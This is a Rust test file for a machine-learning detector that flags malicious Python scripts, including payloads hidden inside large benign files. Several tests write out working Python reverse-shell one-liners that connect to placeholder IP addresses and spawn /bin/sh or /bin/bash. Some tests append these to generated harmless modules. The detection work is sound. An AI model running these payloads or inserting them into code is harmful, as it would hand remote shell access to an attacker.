//! The committed model: manifest, refusal of mismatches, reasons, payloads in large files.
//! (Its scores on fresh template variants are tested in ward-ml-train, which owns the templates.)
use std::path::PathBuf;

use ward_ml::{features, scan, Model, PythonClassifier, ScriptClassifier, MODEL_FORMAT_VERSION};

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn model() -> Model {
    Model::load(&root().join("../../models/python/model.bin")).expect("committed model loads")
}

#[test]
fn manifest_matches_code() {
    let m = model();
    let man = &m.manifest;
    assert_eq!(man.format_version, MODEL_FORMAT_VERSION);
    assert_eq!(man.feature_set_hash, features::feature_set_hash());
    assert!(
        man.threshold > 0.5 && man.threshold < 1.0,
        "{}",
        man.threshold
    );
    assert!(m.id().starts_with("ward-python-v1 (sha256:"));
    assert!(man
        .data
        .iter()
        .any(|d| d.kind == "malicious-pack" && d.scripts > 1000));
    assert!(man.data.iter().any(|d| d.kind == "wheel"));
    assert!(man
        .metrics
        .get("roc_auc")
        .and_then(|v| v.as_f64())
        .is_some_and(|a| a > 0.9));
    let size = std::fs::metadata(root().join("../../models/python/model.bin"))
        .unwrap()
        .len();
    assert!(size <= 20 << 20);
    // The JSON manifest next to the model is the same manifest.
    let j: ward_ml::Manifest = serde_json::from_str(
        &std::fs::read_to_string(root().join("../../models/python/manifest.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(&j, man);
}

#[test]
fn reasons_and_not_python() {
    let m = model();
    let r = scan(
        &m,
        b"import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.9',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n",
    );
    assert!(r.malicious, "{r:?}");
    assert!(!r.top_reasons.is_empty() && r.top_reasons.len() <= 5);
    let r = scan(&m, b"\x7fELF\x02\x01\x01\x00\x00\x00");
    assert!(!r.malicious);
    assert!(r.not_python.as_deref().unwrap_or("").contains("ELF"));
    let clf = PythonClassifier::new(m);
    let v = clf.classify(b"print('hello, world')\n");
    assert!(!v.malicious, "{v:?}");
    assert!(v.score < v.threshold);
}

#[test]
fn loader_refuses_tampering() {
    let bytes = std::fs::read(root().join("../../models/python/model.bin")).unwrap();
    let mut b = bytes.clone();
    let n = b.len();
    b[n / 2] ^= 0x55;
    assert!(Model::from_bytes(&b).is_err());
    assert!(Model::from_bytes(&bytes[..n - 1]).is_err());
}

#[test]
fn payload_inside_large_benign_file_is_found() {
    // ~60 KB of library-style benign code (one class repeated) with a reverse shell appended.
    // Its vocabulary is small, so the whole-file vector alone still finds the payload; the
    // window path is tested below on a file that does dilute it. (Not the benign templates back
    // to back: many of them are hard negatives on purpose - installers that download and chmod,
    // metric beacons, chat alerts - and dozens of unrelated scripts in a row are not what a
    // benign module looks like.)
    let m = model();
    let mut text = String::from(
        "import json\nimport logging\nimport os\n\nlog = logging.getLogger(__name__)\n\n",
    );
    let mut i = 0;
    while text.len() < 60_000 {
        text.push_str(&format!(
            "\nclass Store{i}:\n    \"\"\"Key/value store number {i}, persisted as JSON.\"\"\"\n\n    \
             def __init__(self, path):\n        self.path = path\n        self.items = {{}}\n\n    \
             def load(self):\n        if os.path.exists(self.path):\n            with open(self.path) as f:\n                \
             self.items = json.load(f)\n        log.debug('loaded %d items', len(self.items))\n\n    \
             def get(self, key, default=None):\n        return self.items.get(key, default)\n\n    \
             def put(self, key, value):\n        self.items[key] = value\n        with open(self.path, 'w') as f:\n            \
             json.dump(self.items, f, indent=2)\n"
        ));
        i += 1;
    }
    let clean = scan(&m, text.as_bytes());
    assert!(!clean.malicious, "{clean:?}");
    text.push_str("import socket,os,pty\ns=socket.socket()\ns.connect(('198.51.100.23',9001))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/bash')\n");
    let r = scan(&m, text.as_bytes());
    assert!(r.malicious, "{r:?}");
}

#[test]
fn payload_diluted_in_a_large_data_module_is_found_by_its_window() {
    // ~100 KB of module-level settings with a varied vocabulary, then a reverse shell: the
    // whole-file vector is diluted below the threshold, the tail window is not.
    let m = model();
    let words = [
        "account", "balance", "cache", "draft", "entry", "folder", "group", "handler", "index",
        "journal", "kernel", "ledger", "member", "notice", "order", "parcel", "quota", "record",
        "schedule", "ticket", "update", "vendor", "widget", "zone", "author", "branch", "column",
        "digest", "export", "filter", "gadget", "header", "invoice", "label", "margin", "number",
        "option", "period", "query", "report", "sample", "table", "unit", "value", "window",
    ];
    let mut text = String::from("# Generated settings.\n\n");
    let mut i = 0usize;
    while text.len() < 100_000 {
        let w = |k: usize| words[(i * 7 + k * 13 + i / words.len()) % words.len()];
        text.push_str(&format!(
            "{}_{}_{i} = {{'{}': '{} {}', '{}': {i}, '{}': ['{}', '{}']}}\n",
            w(0).to_uppercase(),
            w(1).to_uppercase(),
            w(2),
            w(3),
            w(4),
            w(5),
            w(6),
            w(0),
            w(1)
        ));
        i += 1;
    }
    let clean = scan(&m, text.as_bytes());
    assert!(!clean.malicious, "{clean:?}");
    text.push_str("import socket,os,pty\ns=socket.socket()\ns.connect(('198.51.100.23',9001))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/bash')\n");
    let whole = m.score(&ward_ml::Extractor::new().analyze(text.as_bytes()).features);
    let r = scan(&m, text.as_bytes());
    assert!(
        whole < r.threshold,
        "whole-file score {whole} is not diluted"
    );
    assert!(r.malicious, "{r:?}");
    assert!(
        r.top_reasons[0].starts_with("suspicious region at bytes"),
        "{r:?}"
    );
}
